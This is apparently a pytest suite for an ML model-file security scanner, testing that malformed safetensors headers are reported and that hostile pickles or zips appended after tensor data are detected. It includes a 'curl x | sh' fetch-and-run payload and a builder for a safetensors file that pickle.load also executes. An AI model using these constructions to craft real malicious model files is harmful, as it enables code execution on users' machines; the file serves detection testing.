"""safetensors: header validation without loading tensors, and payloads hidden after the data."""

from __future__ import annotations

import io
import json
import struct
from pathlib import Path

import pytest

from mlsec.model import Severity
from tests.conftest import FIXTURES, at_least, rules_of, scan_bytes, scan_path
from tests.test_hostile import SYSTEM, globals_of, system_pickle, zip_of

FORMATS = FIXTURES / "formats"
TINY = FORMATS / "safetensors" / "tiny.safetensors"


def st(header: dict[str, object], data: bytes, *, pad: bool = True) -> bytes:
    """A safetensors file written by hand from its published layout."""
    raw = json.dumps(header).encode()
    if pad:
        raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def entry(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def messages(result: object, rule: str) -> list[str]:
    return [f.message for f in result.findings if f.rule_id == rule]  # type: ignore[attr-defined]


def test_benign_files_written_by_the_library_are_clean() -> None:
    for path in (TINY, FORMATS / "hf" / "model.safetensors", FIXTURES / "hf_model" / "model.safetensors"):
        result = scan_path(path)
        assert result.artifacts[0].format == "safetensors"
        assert not at_least(result, Severity.MEDIUM) and not result.errors and not result.skipped, path


def test_a_valid_hand_written_file_is_clean(tmp_path: Path) -> None:
    data = st({"a": entry("F32", [2, 2], 0, 16), "b": entry("BF16", [3], 16, 22), "c": entry("F4", [4], 22, 24),
               "__metadata__": {"format": "pt"}}, bytes(24))
    assert scan_bytes(tmp_path, "m.safetensors", data).findings == ()


@pytest.mark.parametrize(
    ("header", "data", "fragment"),
    [
        ({"a": entry("F32", [2, 2], 0, 16)}, bytes(8), "past the 8-byte data section"),
        ({"a": entry("F32", [2, 2], 0, 12)}, bytes(12), "needs 16 bytes but the offsets span 12"),
        ({"a": entry("Q9", [1], 0, 4)}, bytes(4), "unknown dtype"),
        ({"a": entry("F32", [-1], 0, 4)}, bytes(4), "shape is not a list of non-negative integers"),
        ({"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}, bytes(4), "reversed or negative"),
        ({"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 2, 6)}, bytes(6), "overlaps the previous tensor"),
        ({"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 8, 12)}, bytes(12), "gap before it"),
        ({"a": entry("F32", [1], 4, 8)}, bytes(8), "gap before it"),
        ({"a": entry("F32", [1], 0, 4), "__metadata__": {"n": 1}}, bytes(4), "must map strings to strings"),
        ({"a": "not an object"}, b"", "entry is not an object"),
        ({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, True]}}, bytes(4), "not a pair of integers"),
    ],
    ids=["offset-past-end", "shape-mismatch", "dtype", "negative-dim", "reversed", "overlap", "gap", "leading-gap",
         "metadata-type", "entry-type", "bool-offset"],
)
def test_invalid_headers_are_reported(tmp_path: Path, header: dict[str, object], data: bytes, fragment: str) -> None:
    result = scan_bytes(tmp_path, "m.safetensors", st(header, data))
    assert result.errors == ()
    found = messages(result, "MLSEC-SAFETENSORS-001")
    assert any(fragment in m for m in found), found


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        (struct.pack("<Q", 1 << 63) + b"{}", "impossible"),
        (struct.pack("<Q", 100) + b"{}", "impossible"),
        (struct.pack("<Q", 8) + b'{"a": 1', "impossible"),
        (struct.pack("<Q", 6) + b"[1, 2]", "not a JSON object"),
        (struct.pack("<Q", 8) + b'{"a":1,}', "not valid JSON"),
        (struct.pack("<Q", 4) + b'{"\xff"', "not valid UTF-8"),
        (struct.pack("<Q", 24) + b'{"a": {}, "a": {}}      ', "duplicate key"),
        (struct.pack("<Q", 2) + b"{}", ""),
        (b"\x08\x00\x00", "inside the 8-byte header length"),
    ],
    ids=["2^63", "longer-than-file", "truncated", "array", "bad-json", "utf8", "duplicate", "empty-ok", "short"],
)
def test_broken_headers_never_raise(tmp_path: Path, raw: bytes, fragment: str) -> None:
    result = scan_bytes(tmp_path, "m.safetensors", raw)
    assert result.errors == ()
    found = messages(result, "MLSEC-SAFETENSORS-001")
    if fragment:
        assert any(fragment in m for m in found), found
    else:
        assert found == []


def test_deeply_nested_header_json_is_a_finding(tmp_path: Path) -> None:
    raw = b"{" + b'"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    result = scan_bytes(tmp_path, "m.safetensors", struct.pack("<Q", len(raw)) + raw)
    assert result.errors == () and "MLSEC-SAFETENSORS-001" in rules_of(result)


def test_pickle_hidden_after_the_last_tensor_is_found_and_scanned(tmp_path: Path) -> None:
    data = TINY.read_bytes() + system_pickle("curl x | sh")
    result = scan_bytes(tmp_path, "model.safetensors", data)
    trailing = [f for f in result.findings if f.rule_id == "MLSEC-SAFETENSORS-003"]
    assert len(trailing) == 1 and dict(trailing[0].evidence)["sniffed"] == "pickle"
    assert trailing[0].location.offset == len(TINY.read_bytes())
    assert SYSTEM in globals_of(result)
    hit = next(f for f in result.findings if dict(f.evidence).get("global") == SYSTEM)
    assert hit.severity == Severity.CRITICAL and hit.location.member == f"@{len(TINY.read_bytes())}"


def test_zip_hidden_after_the_tensors_is_opened(tmp_path: Path) -> None:
    data = TINY.read_bytes() + zip_of({"inner/evil.pkl": system_pickle()})
    result = scan_bytes(tmp_path, "model.safetensors", data)
    assert "MLSEC-SAFETENSORS-003" in rules_of(result) and SYSTEM in globals_of(result)


def test_plain_trailing_bytes_are_reported_without_a_nested_scan(tmp_path: Path) -> None:
    data = st({"a": entry("U8", [4], 0, 4)}, b"abcd" + b"\x00\x01hidden")
    result = scan_bytes(tmp_path, "m.safetensors", data)
    (f,) = result.findings
    assert f.rule_id == "MLSEC-SAFETENSORS-003" and dict(f.evidence)["bytes"] == "8"


def test_safetensors_inside_a_zip_and_a_gzip_is_validated(tmp_path: Path) -> None:
    import gzip

    bad = st({"a": entry("F32", [2], 0, 8)}, bytes(8) + system_pickle())
    result = scan_bytes(tmp_path, "bundle.zip", zip_of({"m/model.safetensors": bad}))
    assert {"MLSEC-SAFETENSORS-003", "MLSEC-PICKLE-001"} <= rules_of(result)
    result = scan_bytes(tmp_path, "model.safetensors.gz", gzip.compress(bad))
    assert {"MLSEC-SAFETENSORS-003", "MLSEC-PICKLE-001"} <= rules_of(result)
    assert result.errors == ()


def test_many_bad_tensors_give_a_bounded_number_of_findings(tmp_path: Path) -> None:
    header = {f"t{i}": entry("F32", [1], 0, 3) for i in range(1000)}
    result = scan_bytes(tmp_path, "m.safetensors", st(header, bytes(4)))
    found = messages(result, "MLSEC-SAFETENSORS-001")
    assert 1 < len(found) <= 6 and any("1000 tensors" in m for m in found)


def _header_of_length(n: int) -> bytes:
    """A valid one-tensor file whose JSON header is exactly ``n`` bytes (space padded)."""
    raw = json.dumps({"a": entry("F32", [1], 0, 4)}).encode()
    return struct.pack("<Q", n) + raw + b" " * (n - len(raw)) + bytes(4)


def test_header_length_that_sniffs_as_pickle_still_gets_the_safetensors_checks(tmp_path: Path) -> None:
    # 128 = 0x80 = PROTO: the head also parses as a pickle prefix; the dispatcher reads both ways.
    data = _header_of_length(128) + system_pickle()
    result = scan_bytes(tmp_path, "m.safetensors", data)
    assert "MLSEC-SAFETENSORS-003" in rules_of(result) and SYSTEM in globals_of(result)


def test_benign_file_with_a_128_byte_header_is_clean(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, "m.safetensors", _header_of_length(128))
    assert result.artifacts[0].format == "safetensors" and result.findings == ()


def safetensors_pickle_polyglot(payload: bytes) -> bytes:
    """Valid safetensors that ``pickle.load`` also runs: the header length starts with 'C' (SHORT_BINBYTES),
    and a chain of 'C' + length-byte skips through a metadata string lands on ``payload`` in the data."""
    n = 0x43 | (0x20 << 8)
    prefix = '{"__metadata__":{"p":"'
    text = prefix + "a" * (2 + 0x20 - 8 - len(prefix))
    pos, end = 2 + 0x20, 8 + n
    while end - (pos + 2) > 126:
        k = min(126, end - (pos + 2) - 2 - 90)
        text += "C" + chr(k) + "b" * k
        pos += 2 + k
    text += "C" + chr(end - (pos + 2))
    closing = f'"}},"t":{{"dtype":"U8","shape":[{len(payload)}],"data_offsets":[0,{len(payload)}]}}}}'.encode()
    header = text.encode() + closing
    header += b" " * (n - len(header))
    return struct.pack("<Q", n) + header + payload


def test_safetensors_that_is_also_a_working_pickle(tmp_path: Path) -> None:
    import pickletools

    from mlsec.engine import dispatch
    from mlsec.engine.context import Inspection
    from mlsec.engine.stream import bytes_stream

    data = safetensors_pickle_polyglot(system_pickle())
    header_len = struct.unpack("<Q", data[:8])[0]
    assert json.loads(data[8 : 8 + header_len])["t"]["data_offsets"] == [0, len(system_pickle())]
    assert [op.name for op, _, _ in pickletools.genops(io.BytesIO(data))][-2:] == ["BINPUT", "STOP"]
    assert SYSTEM in globals_of(scan_bytes(tmp_path, "m.safetensors", data))
    # the safetensors reader alone (as when the sniffer calls it safetensors) reads it both ways
    insp = Inspection(path="m.safetensors", scanner="t")
    dispatch.run_format("safetensors", bytes_stream(data), insp, None, 0)
    assert any(dict(f.evidence).get("global") == SYSTEM for f in insp.findings)
    assert "MLSEC-PICKLE-005" not in {f.rule_id for f in insp.findings}
